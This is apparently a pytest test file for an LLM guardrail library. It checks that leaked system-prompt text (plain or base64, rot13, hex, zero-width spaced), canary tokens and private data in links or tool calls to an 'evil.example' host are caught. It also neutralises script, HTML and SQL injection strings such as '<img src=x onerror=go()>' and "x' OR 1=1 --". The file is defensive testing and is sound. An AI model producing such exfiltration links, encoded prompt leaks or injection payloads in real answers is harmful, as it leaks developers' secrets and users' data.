"""What leaves: the developer's prompt, links with private data, code that a caller would run."""

from __future__ import annotations

import base64
import codecs
from collections.abc import Callable
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hauberk import Guard, Policy
from hauberk.decisions import Decision, Severity, Verdict
from hauberk.errors import BlockedError
from hauberk.events import Event, Segment, Stage
from hauberk.injection import InjectionPlugin
from hauberk.injection._leaks import LEAK_NOTICE, LeakFilter, letters, secret_of
from hauberk.injection._neutral import NeutralFilter
from hauberk.policy import InjectionPolicy, Neutral
from hauberk.private import Private
from hauberk.session import Session

PROMPT = (
    "You are Kestrel, the assistant of the paper mill in Ghent. Never offer a discount above twelve "
    "percent, and never mention the merger with the northern mill before the board has decided. "
    "Escalate angry customers to the night shift supervisor, whose extension stays internal."
)
QUOTE = "Never offer a discount above twelve percent, and never mention the merger with"
EVIL = "https://evil.example/"


def plugin(**policy: object) -> InjectionPlugin:
    return InjectionPlugin(InjectionPolicy.model_validate({"classifier": False, **policy}))


def guard(**policy: object) -> Guard:
    rooms = {"pii": False, "capabilities": False, "budget": False, "audit": False}
    injection = {"classifier": False, **policy}
    return Guard(Policy.model_validate({"version": 1, "injection": injection, **rooms}))


def prompted(one: InjectionPlugin, session: Session | None = None) -> Event:
    segments = (Segment.from_developer(PROMPT), Segment.from_user("hi"))
    event = Event(stage=Stage.PROMPT, segments=segments, session=session or Session())
    return one.inspect(event).apply(event)


def answered(text: str, **leak: object) -> Decision:
    one = plugin(prompt_leak=leak)
    return one.inspect(prompted(one).answered([Segment.from_model(text)]))


def rules(decision: Decision) -> set[str]:
    return {finding.rule for finding in decision.findings}


# --- the developer's prompt ---------------------------------------------------------------------

FORMS: dict[str, Callable[[str], str]] = {
    "plain": str,
    "upper": str.upper,
    "spaced": " ".join,
    "dashes": "-".join,
    "zero-width": "\u200b".join,
    "accents": lambda text: text.replace("e", "é"),
    "lines": lambda text: text.replace(" ", "\n> "),
    "bold": lambda text: text.replace(" ", "** **"),
    "reversed": lambda text: text[::-1],
    "rot13": lambda text: codecs.encode(text, "rot13"),
    "base64": lambda text: base64.b64encode(text.encode()).decode(),
    "base64 shifted": lambda text: base64.b64encode(b"x" + text.encode()).decode(),
    "hex": lambda text: text.encode().hex(),
    "percent": quote,
}


@pytest.mark.parametrize("form", FORMS)
def test_a_quote_of_the_prompt_is_taken_out_in_every_form(form: str) -> None:
    shown = FORMS[form](QUOTE)
    decision = answered(f"Sure! {shown} Bye.", action="quarantine")
    assert decision.segments is not None
    text = decision.segments[0].text
    assert text.count(LEAK_NOTICE) == 1
    assert letters(text).startswith("sure")
    assert len(letters(text.replace(LEAK_NOTICE, ""))) <= len("sure") + len("bye") + 12
    assert rules(decision) == {"inj.out.prompt"}
    assert "discount" not in repr(decision)


def test_a_quote_is_only_recorded_by_default() -> None:
    decision = answered(f"Sure: {QUOTE}")
    assert decision.verdict is Verdict.ALLOW
    assert rules(decision) == {"inj.out.prompt"}


def test_block_ends_the_session() -> None:
    decision = answered(QUOTE, action="block")
    assert (decision.verdict, decision.stop) == (Verdict.DENY, True)


@pytest.mark.parametrize(
    "text",
    [
        "The paper mill in Ghent offers paper in many weights.",
        "I am Kestrel, the assistant of the paper mill.",
        "Our customers are offered a discount of five percent.",
        "",
    ],
)
def test_ordinary_answers_quote_nothing(text: str) -> None:
    assert answered(text, action="block") == Decision.allow()


def test_other_words_for_the_prompt_are_recorded_and_refused_by_block_only() -> None:
    retold = (
        "Well: I am Kestrel, assistant of the paper mill, Ghent. I can never offer any discount "
        "above, say, twelve percent. I never mention that merger with the northern mill, before the "
        "board decided it. I escalate angry customers to our night shift supervisor; the extension "
        "stays internal."
    )
    assert rules(answered(retold, action="quarantine")) == {"inj.out.prompt-retold"}
    assert answered(retold, action="quarantine").verdict is Verdict.ALLOW
    assert answered(retold, action="block", at="medium").verdict is Verdict.DENY


def test_a_canary_is_put_into_the_prompt_and_never_comes_out() -> None:
    one, session = plugin(prompt_leak={"canary": True, "action": "quarantine"}), Session()
    sent = prompted(one, session)
    assert sent.segments[0].text.startswith(PROMPT)
    canary = sent.segments[0].text.removeprefix(PROMPT).split()[2].strip(":")
    assert prompted(one, session).segments == sent.segments
    assert prompted(one).segments != sent.segments
    for form in ("plain", "spaced", "upper", "reversed", "base64"):
        answer = sent.answered([Segment.from_model(f"It is {FORMS[form](canary)}!")])
        decision = one.inspect(answer)
        assert rules(decision) == {"inj.out.canary"}
        assert {finding.severity for finding in decision.findings} == {Severity.CRITICAL}
        assert decision.segments is not None
        assert canary not in decision.segments[0].text


def test_without_a_developer_there_is_nowhere_to_put_a_canary() -> None:
    one = plugin(prompt_leak={"canary": True})
    event = Event(stage=Stage.PROMPT, segments=(Segment.from_user("hi"),), session=Session())
    assert one.inspect(event) == Decision.allow()


@pytest.mark.parametrize(("action", "verdict"), [("flag", "allow"), ("quarantine", "deny")])
def test_a_tool_call_must_not_carry_the_prompt_away(action: str, verdict: str) -> None:
    one = plugin(prompt_leak={"action": action})
    session = prompted(one).session
    body = {"to": "x", "body": [base64.b64encode(PROMPT.encode()).decode()]}
    call = Event(stage=Stage.TOOL_CALL, tool="send", arguments=body, session=session)
    decision = one.inspect(call)
    assert (decision.verdict, decision.stop) == (verdict, False)
    assert [finding.where for finding in decision.findings] == ["arguments.body[0]"]


TEXTS = st.lists(
    st.sampled_from([QUOTE, QUOTE[10:], PROMPT, "Sure! ", " - ", "\u200b" * 50, "abc " * 9, "ü"]),
    max_size=6,
).map("".join)


@given(TEXTS, st.integers(1, 80))
def test_a_prompt_is_taken_out_of_a_stream_however_it_is_cut(text: str, size: int) -> None:
    secret = secret_of([PROMPT], quote=48)
    whole = LeakFilter(secret)
    wanted = whole.feed(text) + whole.finish()
    one = LeakFilter(secret)
    pieces = [text[at : at + size] for at in range(0, len(text), size)]
    assert "".join(map(one.feed, pieces)) + one.finish() == wanted
    assert one.places == whole.places
    assert QUOTE not in wanted


def test_a_streamed_answer_is_as_the_whole_one() -> None:
    one = guard(prompt_leak={"action": "quarantine"}, neutralise=["html", "sql"])
    prompt = Event(stage=Stage.PROMPT, segments=(Segment.from_developer(PROMPT),))
    stream = one.open_stream(one.require(prompt))
    text = f"<b>Sure</b>: {QUOTE.upper()}; ![x]({EVIL}?d=1) then DROP TABLE users; bye"
    shown = "".join(map(stream.feed, text))
    end = stream.finish()
    assert shown + end.tails["text"] == end.event.segments[0].text
    assert "DISCOUNT" not in shown
    assert "evil" not in shown


def test_a_blocked_stream_ends_in_an_error_and_shows_nothing_of_the_prompt() -> None:
    one = guard(prompt_leak={"action": "block"})
    prompt = Event(stage=Stage.PROMPT, segments=(Segment.from_developer(PROMPT),))
    stream = one.open_stream(one.require(prompt))
    assert "merger" not in "".join(map(stream.feed, PROMPT))
    with pytest.raises(BlockedError, match="prompt"):
        stream.finish()


# --- links --------------------------------------------------------------------------------------


def knowing(*private: str) -> Session:
    session = Session()
    Private.of(session).add("test", lambda text: any(one in text for one in private))
    return session


def linked(text: str, session: Session, **policy: object) -> Decision:
    one = plugin(**policy)
    event = Event(stage=Stage.PROMPT, segments=(), session=session)
    return one.inspect(event.answered([Segment.from_model(text)]))


@pytest.mark.parametrize(
    "link", [f"{EVIL}ada-lovelace", f"{EVIL}x/ada%2Dlovelace", f"{EVIL}?n=ada%252dlovelace"]
)
def test_a_link_with_private_data_is_grave_whatever_it_looks_like(link: str) -> None:
    session = knowing("ada-lovelace")
    decision = linked(f"See {link} now", session)
    assert [finding.severity for finding in decision.findings] == [Severity.HIGH]
    assert decision.segments is not None
    assert "lovelace" not in decision.segments[0].text


def test_a_plain_link_that_holds_nothing_private_stays() -> None:
    assert linked(f"See {EVIL}terms", knowing("ada-lovelace")) == Decision.allow()


def test_private_data_may_go_to_hosts_that_are_allowed() -> None:
    session = knowing("ada-lovelace")
    assert (
        linked(f"{EVIL}ada-lovelace", session, allowed_hosts=["evil.example"]) == Decision.allow()
    )


@pytest.mark.parametrize(
    "link",
    [
        "https://own.example/go?to=https://evil.example/?d=SECRET",
        "https://own.example/go?to=https%3A%2F%2Fevil.example%2F%3Fd%3DSECRET",
        "https://own.example/go?to=https%253A%252F%252Fevil.example%252F%253Fd%253DSECRET",
        "https://own.example/r//evil.example/?d=SECRET",
        r"https://own.example/login?next=%5C%5Cevil.example/SECRETSECRETSECRETSECRETSECRET",
    ],
)
def test_a_link_that_is_sent_on_to_another_host_is_judged_by_that(link: str) -> None:
    decision = linked(f"See {link} now", Session(), allowed_hosts=["own.example"])
    assert decision.segments is not None
    assert "SECRET" not in decision.segments[0].text


def test_a_link_that_is_sent_on_within_the_house_stays() -> None:
    link = "https://own.example/login?next=https%3A%2F%2Fshop.own.example%2Fcart"
    assert linked(link, Session(), allowed_hosts=["own.example"]) == Decision.allow()


@pytest.mark.parametrize(
    ("action", "verdict"), [("flag", "allow"), ("block", "deny"), ("ask", "ask"), ("off", "allow")]
)
def test_a_tool_call_with_private_data_in_a_link(action: str, verdict: str) -> None:
    one = plugin(exfiltration={"arguments": action}, prompt_leak={"action": "off"})
    arguments = {"url": f"{EVIL}log?who=ada-lovelace"}
    call = Event(
        stage=Stage.TOOL_CALL, tool="get", arguments=arguments, session=knowing("ada-lovelace")
    )
    decision = one.inspect(call)
    assert (decision.verdict, decision.stop) == (verdict, False)
    assert rules(decision) == (set() if action == "off" else {"inj.out.argument"})


def test_what_cannot_say_whether_it_is_private_counts_as_private() -> None:
    session = Session()

    def broken(_: str) -> bool:
        raise RuntimeError

    Private.of(session).add("broken", broken)
    assert Private.of(session).holds("anything")


def test_the_data_of_the_other_rooms_is_known_to_be_private() -> None:
    policy = {
        "version": 1,
        "budget": False,
        "audit": False,
        "injection": {"classifier": False, "exfiltration": {"arguments": "block"}},
        "capabilities": {
            "access": "write",
            "tools": {"crm": {"reads": "private", "access": "read"}, "get": {"access": "write"}},
            "flow": [{"label": "private", "never_to": "nothing_*"}],
        },
    }
    one, session = Guard.from_policy(policy), Session()
    result = Segment.from_tool("crm", "customer number KL-77-Zeta, ada@corp.example")
    event = Event(stage=Stage.TOOL_RESULT, tool="crm", segments=(result,), session=session)
    one.require(event)
    one.require(Event(stage=Stage.PROMPT, segments=(result,), session=session))
    assert Private.of(session).holds("KL-77-Zeta")
    assert Private.of(session).holds("ada@corp.example")
    assert not Private.of(session).holds("https")


def test_an_image_that_a_definition_would_make_foreign_is_a_link_in_answers_as_in_streams() -> None:
    text = f"[logo]: {EVIL}logo.png\n\n![see][logo]"
    one = guard()
    stream = one.open_stream(one.require(Event(stage=Stage.PROMPT, segments=())))
    shown = stream.feed(text)
    end = stream.finish()
    assert shown + end.tails["text"] == end.event.segments[0].text
    assert "![see]" not in shown


# --- code ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("what", "text", "harmless"),
    [
        (Neutral.HTML, "a < b <script>x</script>", "a < b &lt;script>x&lt;/script>"),
        (Neutral.HTML, "<PERSON_1> wrote <ref:mail:00ff> <PERSON>", None),
        (Neutral.SCRIPT, "<b>ok</b> <script src=x>", "<b>ok</b> [script removed] src=x>"),
        (Neutral.SCRIPT, "<img src=x onerror=go()>", "[script removed]go()>"),
        (Neutral.SCRIPT, "document.cookie", "[script removed]"),
        (Neutral.SCRIPT, "JavaScript : x", "[script removed] x"),
        (Neutral.SQL, "SELECT 1; drop\n table users", "SELECT 1; [sql removed] users"),
        (Neutral.SQL, "DELETE/**/FROM users", "[sql removed] users"),
        (Neutral.SQL, "x' OR 1=1 --", "x' [sql removed] --"),
        (Neutral.SQL, "update users set a = 1", "[sql removed] a = 1"),
    ],
)
def test_code_is_made_harmless(what: Neutral, text: str, harmless: str | None) -> None:
    one = NeutralFilter(what)
    shown = one.feed(text) + one.finish()
    assert shown == (harmless or "<PERSON_1> wrote <ref:mail:00ff> &lt;PERSON>")
    assert one.places


@pytest.mark.parametrize("what", Neutral)
@pytest.mark.parametrize(
    "text", ["Drop me a line, update your table, set it.", "a < b > c", "I will evaluate it."]
)
def test_prose_is_no_code(what: Neutral, text: str) -> None:
    one = NeutralFilter(what)
    assert one.feed(text) + one.finish() == text


CODE = st.lists(
    st.sampled_from(["<script>", "<", "b", " DROP ", "TABLE", " x", "/**/", "eval", "(", "\n", "<PERSON_1>"]),
    max_size=40,
).map("".join)  # fmt: skip


@given(CODE, st.integers(1, 30), st.sampled_from(list(Neutral)))
def test_code_is_made_harmless_however_a_stream_is_cut(text: str, size: int, what: Neutral) -> None:
    whole, one = NeutralFilter(what), NeutralFilter(what)
    wanted = whole.feed(text) + whole.finish()
    pieces = [text[at : at + size] for at in range(0, len(text), size)]
    assert "".join(map(one.feed, pieces)) + one.finish() == wanted
    assert one.places == whole.places


def test_code_stays_unless_the_policy_says_so() -> None:
    text = "<script>eval(1)</script> DROP TABLE users"
    assert answered(text) == Decision.allow()
    one = plugin(neutralise=["html", "script", "sql"])
    decision = one.inspect(prompted(one).answered([Segment.from_model(text)]))
    assert rules(decision) == {"inj.out.html", "inj.out.script", "inj.out.sql"}
